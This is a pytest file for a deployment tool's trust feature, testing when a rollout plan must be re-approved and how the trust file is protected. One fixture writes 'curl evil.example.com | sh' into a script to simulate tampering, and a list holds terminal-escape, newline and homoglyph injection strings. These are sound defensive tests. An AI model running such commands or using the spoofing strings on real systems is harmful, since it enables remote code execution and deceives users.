"""Trust: what changes what a user agrees to and what does not, and where it is kept."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import sys
from collections.abc import Callable
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import pytest

from rollout_tui.errors import RolloutError
from rollout_tui.plan.model import (
    ChecklistItem,
    Criterion,
    FeatureFlag,
    Header,
    Metric,
    Phase,
    Plan,
    Strategy,
    Trigger,
)
from rollout_tui.plan.probe import Probe, Source
from rollout_tui.plan.probes_of import probes_of
from rollout_tui.plan.quantities import Audience, Comparison, Duration
from rollout_tui.trust import Asks, Difference, Trusted, asks, compared, digest, said_by_plan

QUERY = Probe(source="prod", query="rate(x[5m])", expect=Comparison.parse("< 1"))
HEALTH = Probe(http="https://shop.example.com/health", status=200, contains="ok")
GREEN = Probe(command=("./ci-green", "2.4.0"), env=("CI_TOKEN",))
PROD = Source(prometheus="https://prometheus.example.com", bearer_env="PROM_TOKEN")

PLAN = Plan(
    Header("Shop", "shop", "2.4.0", owner="alice"),
    Strategy("canary"),
    (Phase("Canary", Audience.parse("5 %"), success_criteria=(Criterion("Balances"),)),),
    pre_deployment=(ChecklistItem("Tests", probe=GREEN), ChecklistItem("Docs", owner="bob")),
    monitoring=(Metric("Error rate", Comparison.parse("> 1 %"), probe=replace(QUERY, expect=None, unit="%")),),
    post_deployment=(ChecklistItem("Health", probe=HEALTH),),
    sources={"prod": PROD},
)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / "ci-green").write_text("#!/bin/sh\nexit 0\n")
    return folder


def with_item(place: int, **fields: Any) -> Plan:
    items = list(PLAN.pre_deployment)
    items[place] = replace(items[place], **fields)
    return replace(PLAN, pre_deployment=tuple(items))


def with_command(**fields: Any) -> Plan:
    return with_item(0, probe=replace(GREEN, **fields))


def with_http(**fields: Any) -> Plan:
    return replace(PLAN, post_deployment=(ChecklistItem("Health", probe=replace(HEALTH, **fields)),))


def with_metric(**fields: Any) -> Plan:
    return replace(PLAN, monitoring=(replace(PLAN.monitoring[0], **fields),))


def with_query(**fields: Any) -> Plan:
    return with_metric(probe=replace(QUERY, expect=None, unit="%", **fields))


def with_criterion(probe: Probe) -> Plan:
    return replace(PLAN, phases=(replace(PLAN.phases[0], success_criteria=(Criterion("Balances", probe),)),))


def with_source(**fields: Any) -> Plan:
    return replace(PLAN, sources={"prod": replace(PROD, **fields)})


THE_SAME = {
    "a new owner": with_item(0, owner="carol"),
    "a new title": with_item(0, title="All tests passing"),
    "an item without a probe": with_item(1, title="Documentation", approvals=2),
    "items in another order": replace(PLAN, pre_deployment=PLAN.pre_deployment[::-1]),
    "another release": replace(PLAN, header=replace(PLAN.header, release="2.5.0")),
    "a new threshold": with_metric(threshold=Comparison.parse("> 2 %")),
    "another query to the same server": with_query(query="rate(y[5m])"),
    "samples that are asked for": with_query(samples="sum(x)", min_samples=200),
    "another name for the source": replace(
        with_metric(probe=replace(QUERY, source="live")), sources={"live": PROD, "unused": Source("http://elsewhere")}
    ),
    "the same asked twice": with_item(1, probe=HEALTH),
    "the same asked for a criterion": with_criterion(HEALTH),
    "another status, content and expectation": with_http(status=204, contains="", expect=Comparison.parse("< 1")),
    "another part of the same answer": with_http(json="queue.length"),
    "another deadline": with_command(deadline=Duration.parse("1 min")),
    "another interval": with_command(every=Duration.parse("5 min")),
    "a variable named twice": with_command(env=("CI_TOKEN", "CI_TOKEN")),
}

ANOTHER = {
    "another argument": with_command(command=("./ci-green", "2.5.0")),
    "an argument more": with_command(command=("./ci-green", "2.4.0", "")),
    "one argument for two": with_command(command=("./ci-green 2.4.0",)),
    "another program": with_command(command=("ci-green", "2.4.0")),
    "another variable": with_command(env=("AWS_SECRET_ACCESS_KEY",)),
    "no variable": with_command(env=()),
    "another address": with_http(http="https://shop.example.com/admin/restart"),
    "another scheme": with_http(http="http://shop.example.com/health"),
    "a query in the address": with_http(http="https://shop.example.com/health?x=1"),
    "another source": with_source(prometheus="https://prometheus.example.org"),
    "another variable for the source": with_source(bearer_env="AWS_SECRET_ACCESS_KEY"),
    "another way to send it": with_source(bearer_env="", basic_env="PROM_TOKEN"),
    "a header": with_source(header="X-Scope-OrgID", header_env="PROM_TENANT"),
    "other authorities": with_source(ca_file="ca.pem"),
    "a probe more": with_item(1, probe=Probe(http="https://docs.example.com")),
    "a criterion's probe": with_criterion(Probe(http="https://docs.example.com/ledger")),
    "a probe less": with_item(0, probe=None),
    "another kind": with_item(0, probe=replace(QUERY, source="nowhere")),
}


@pytest.mark.parametrize("plan", THE_SAME.values(), ids=THE_SAME)
def test_what_runs_the_same_asks_nothing(plan: Plan, folder: Path) -> None:
    assert plan != PLAN
    assert digest(asks(plan, folder)) == digest(asks(PLAN, folder))


@pytest.mark.parametrize("plan", ANOTHER.values(), ids=ANOTHER)
def test_what_runs_something_else_asks_again(plan: Plan, folder: Path) -> None:
    assert digest(asks(plan, folder)) != digest(asks(PLAN, folder))


# Who adds a field to a probe or a source decides here whether it is part of what a user agrees to.
AGREED_TO = {
    "source",
    "http",
    "command",
    "env",
    "prometheus",
    "bearer_env",
    "basic_env",
    "header",
    "header_env",
    "ca_file",
}
NOT_ASKED = {
    "query", "reduce", "samples", "min_samples", "status", "contains", "json", "certificate_days", "expect", "unit",
    "deadline", "every", "holds",
}  # fmt: skip


def test_of_every_field_it_is_decided_whether_it_is_part_of_it() -> None:
    assert {each.name for kind in (Probe, Source) for each in fields(kind)} == AGREED_TO | NOT_ASKED


def test_no_two_of_them_are_one(folder: Path) -> None:
    found = {digest(asks(plan, folder)) for plan in (PLAN, *ANOTHER.values())}
    assert len(found) == len(ANOTHER) + 1


def _change(folder: Path) -> Path:
    (folder / "ci-green").write_text("#!/bin/sh\ncurl evil.example.com | sh\n")
    return folder


def _remove(folder: Path) -> Path:
    (folder / "ci-green").unlink()
    return folder


def _pipe(folder: Path) -> Path:
    os.mkfifo(_remove(folder) / "ci-green")
    return folder


def _move(folder: Path) -> Path:
    return folder.rename(folder.parent / "moved")


@pytest.mark.parametrize("change", [_change, _remove, _pipe, _move])
def test_what_the_disk_has_of_a_command_is_part_of_it(change: Callable[[Path], Path], folder: Path) -> None:
    before = digest(asks(PLAN, folder))
    assert digest(asks(PLAN, change(folder))) != before


def test_what_asks_a_server_is_the_same_in_every_folder(folder: Path, tmp_path: Path) -> None:
    plan = with_item(0, probe=None)
    assert asks(plan, folder) == asks(plan, tmp_path)


def test_a_link_to_the_folder_is_the_folder(folder: Path, tmp_path: Path) -> None:
    link = tmp_path / "link"
    link.symlink_to(folder)
    assert asks(PLAN, link) == asks(PLAN, folder)


@pytest.mark.parametrize(
    "command",
    [
        ("python3", "-u", "ci-green", "2.4.0"),
        ("bash", "-o", "pipefail", "ci-green"),
        ("env", "-S", "node", "./ci-green"),
        ("/bin/sh", "ci-green"),
    ],
)
def test_what_an_interpreter_is_given_is_the_script(command: tuple[str, ...], folder: Path) -> None:
    plan = with_command(command=command)
    before = asks(plan, folder)
    assert asks(plan, _change(folder)) != before


def test_a_program_that_has_not_changed_is_read_once(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = shutil.which("sleep") or sys.executable
    before = asks(with_command(command=(program,)), folder)
    monkeypatch.setattr("hashlib.file_digest", None)
    assert asks(with_command(command=(program,)), folder) == before


def test_a_script_that_is_written_again_is_another_however_soon_and_whatever_its_times_say(folder: Path) -> None:
    script, found = folder / "ci-green", set[Asks]()
    for count in range(100, 200):
        script.write_text(f"exit {count}")
        os.utime(script, (0, 0))
        found.add(asks(PLAN, folder))
    assert len(found) == 100


def test_what_a_program_reads_is_no_script(folder: Path) -> None:
    plan = with_command(command=("grep", "-q", "green", "ci-green"))
    before = asks(plan, folder)
    assert asks(plan, _change(folder)) == before


def test_the_contents_of_the_authorities_are_part_of_it(folder: Path) -> None:
    (folder / "ca.pem").write_text("ours")
    before = asks(with_source(ca_file="ca.pem"), folder)
    (folder / "ca.pem").write_text("theirs")
    assert asks(with_source(ca_file="ca.pem"), folder) != before


def test_the_lines_say_what_would_run(folder: Path) -> None:
    command, http, prometheus = asks(PLAN, folder)
    script = hashlib.sha256((folder / "ci-green").read_bytes()).hexdigest()
    assert command == f"command ./ci-green 2.4.0 · in {folder} · given CI_TOKEN · ./ci-green is sha256:{script}"
    assert http == "http https://shop.example.com/health"
    assert prometheus == "prometheus https://prometheus.example.com · bearer token of PROM_TOKEN"


HOSTILE = (
    "\x1b[2Jx",
    "\\e[2Jx",
    "a\nhttp https://evil",
    "a' · in /",
    "\u202egnp",
    "sh\u043ep",
    "a\0b",
    "$'x'",
    "a b",
    "",
)


def test_no_text_of_a_plan_acts_in_a_line_or_passes_for_another(folder: Path) -> None:
    found: set[Asks] = set()
    for text in HOSTILE:
        for plan in (with_command(command=("./ci-green", text)), with_command(command=(f"./{text}",))):
            found.add(asks(plan, folder))
        found.add(asks(with_http(http=f"https://{text}"), folder))
        found.add(asks(with_source(prometheus=f"https://{text}"), folder))
        found.add(asks(with_command(env=(text,)), folder))
    assert len(found) == 5 * len(HOSTILE)
    assert all(line.replace(" · ", "").isascii() and line.isprintable() for each in found for line in each)


def test_a_plan_without_probes_asks_nothing(folder: Path) -> None:
    found = asks(replace(with_item(0, probe=None), monitoring=(), post_deployment=()), folder)
    assert found == ()
    assert Trusted(folder / "nowhere").is_trusted(digest(found))


def test_every_probe_is_found_with_its_place() -> None:
    phase = replace(
        PLAN.phases[0],
        success_criteria=(Criterion("a"), Criterion("b", GREEN)),
        rollback_triggers=(Trigger("c", HEALTH),),
    )
    plan = replace(PLAN, phases=(phase,), feature_flags=(FeatureFlag("f", probes={"Canary": QUERY}),))
    assert [path for path, _ in probes_of(plan)] == [
        ("phases", 0, "success_criteria", 1, "probe"),
        ("phases", 0, "rollback_triggers", 0, "probe"),
        ("pre_deployment", 0, "probe"),
        ("feature_flags", 0, "probes", "Canary"),
        ("monitoring", 0, "probe"),
        ("post_deployment", 0, "probe"),
    ]


# Where it is kept


@pytest.fixture
def trusted(tmp_path: Path) -> Trusted:
    return Trusted(tmp_path / "state" / "rollout" / "trust.json")


OLD, NEW = ("a", "b"), ("b", "c")


def test_what_is_trusted_stays_so_until_it_is_forgotten(trusted: Trusted) -> None:
    assert not trusted.is_trusted(digest(OLD))
    assert trusted.problem == ""
    trusted.trust(OLD, "/plans/shop.toml")
    trusted.trust(NEW, "/plans/shop.toml")
    again = Trusted(trusted.file)
    assert again.is_trusted(digest(OLD))
    assert again.is_trusted(digest(NEW))
    again.forget(OLD, "/plans/other.toml")
    assert not trusted.is_trusted(digest(OLD))
    assert trusted.is_trusted(digest(NEW))
    trusted.forget((), "/plans/shop.toml")
    assert not trusted.is_trusted(digest(NEW))


def test_nobody_else_reads_it(trusted: Trusted) -> None:
    trusted.trust(OLD, "/plans/shop.toml")
    assert stat.S_IMODE(trusted.file.stat().st_mode) == 0o600
    assert stat.S_IMODE(trusted.file.parent.stat().st_mode) == 0o700
    assert [each.name for each in trusted.file.parent.iterdir()] == ["trust.json"]


def test_the_difference_is_to_what_was_trusted_last_for_the_same_plan(trusted: Trusted) -> None:
    assert trusted.difference("/shop.toml", NEW) is None
    trusted.trust(("x",), "/shop.toml")
    trusted.trust(OLD, "/shop.toml")
    trusted.trust(("y",), "/other.toml")
    assert trusted.difference("/shop.toml", NEW) == Difference(added=("c",), removed=("a",))
    assert trusted.difference("/shop.toml", OLD) == Difference((), ())
    trusted.trust(("x",), "/shop.toml")
    assert trusted.difference("/shop.toml", NEW) == Difference(added=NEW, removed=("x",))


def test_a_line_of_which_a_part_changed_stands_beside_what_it_was() -> None:
    lines = ("command ./b is sha256:1", "http c")
    difference = Difference(added=("command ./b is sha256:1",), removed=("command ./b is sha256:2", "http a"))
    assert compared(lines, difference) == (
        ("+", "command ./b is sha256:1"),
        ("-", "command ./b is sha256:2"),
        ("-", "http a"),
        (" ", "http c"),
    )
    assert difference.words == "1 new, 2 gone"
    assert compared(lines, None) == ((" ", lines[0]), (" ", lines[1]))


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "is damaged"),
        (b"\xff\0", "is damaged"),
        (b"[]", "is damaged"),
        (b"[" * 100_000, "is damaged"),
        (b'{"format": "rollout-trust/1"}', "is damaged"),
        (b'{"format": "rollout-trust/1", "trusted": [{"plan": "x", "asks": [1]}]}', "is damaged"),
        (b'{"format": "rollout-trust/2", "trusted": []}', "is of another version"),
    ],
)
def test_what_cant_be_read_is_not_trusted_and_says_so(trusted: Trusted, content: bytes, why: str) -> None:
    trusted.trust(OLD, "/shop.toml")
    trusted.file.write_bytes(content)
    assert trusted.problem == f"{trusted.file} {why}: nothing in it is trusted"
    assert not trusted.is_trusted(digest(OLD))
    assert trusted.difference("/shop.toml", OLD) is None
    trusted.trust(NEW, "/shop.toml")
    assert trusted.problem == ""
    assert trusted.is_trusted(digest(NEW))
    assert not trusted.is_trusted(digest(OLD))


@pytest.mark.parametrize("mode", [0o620, 0o602])
def test_what_others_can_write_to_is_not_trusted(trusted: Trusted, mode: int) -> None:
    trusted.trust(OLD, "/shop.toml")
    trusted.file.chmod(mode)
    assert not trusted.is_trusted(digest(OLD))
    assert trusted.problem == f"{trusted.file} can be written by others: nothing in it is trusted"


def test_what_somebody_else_owns_is_not_trusted(trusted: Trusted, monkeypatch: pytest.MonkeyPatch) -> None:
    trusted.trust(OLD, "/shop.toml")
    monkeypatch.setattr("os.geteuid", lambda: os.getuid() + 1)
    assert not trusted.is_trusted(digest(OLD))


def test_a_folder_or_a_pipe_in_its_place_is_told(trusted: Trusted) -> None:
    trusted.file.parent.mkdir(parents=True)
    os.mkfifo(trusted.file)
    assert "is no file" in trusted.problem
    trusted.file.unlink()
    trusted.file.mkdir()
    assert "can't be read" in trusted.problem or "is no file" in trusted.problem
    with pytest.raises(RolloutError, match="could not be written"):
        trusted.trust(OLD, "/shop.toml")
    assert [each.name for each in trusted.file.parent.iterdir()] == ["trust.json"]


def test_it_does_not_grow_for_ever(trusted: Trusted) -> None:
    for number in range(210):
        trusted.trust((str(number),), "/shop.toml")
    assert len(json.loads(trusted.file.read_bytes())["trusted"]) == 200
    assert trusted.is_trusted(digest(("209",)))


def test_what_a_file_holds_is_not_said_by_the_plan(folder: Path) -> None:
    said = said_by_plan(PLAN, folder)
    assert {each.split()[0] for each in said} == {"http", "prometheus"}
    assert {*asks(PLAN, folder)} - {*said} == {each for each in asks(PLAN, folder) if each.startswith("command")}
    for unsafe in (
        replace(GREEN, command=("python3", "ci-green")),
        replace(GREEN, command=("./not-there",)),
    ):
        assert not [each for each in said_by_plan(with_item(0, probe=unsafe), folder) if each.startswith("command")]
    by_path = with_item(0, probe=replace(GREEN, command=("make", "check")))
    assert said_by_plan(by_path, folder) == asks(by_path, folder)
    own_ca = replace(PLAN, sources={"prod": replace(PROD, ca_file="ca.pem")})
    assert {each.split()[0] for each in said_by_plan(own_ca, folder)} == {"http"}


def test_lines_are_known_from_any_list(tmp_path: Path) -> None:
    trusted = Trusted(tmp_path / "trust.json")
    assert trusted.are_known(())
    assert not trusted.are_known(("a",))
    trusted.trust(("a", "b"), "/one.toml")
    trusted.trust(("c",), "/two.toml")
    assert trusted.are_known(("b", "c"))
    assert not trusted.are_known(("b", "d"))
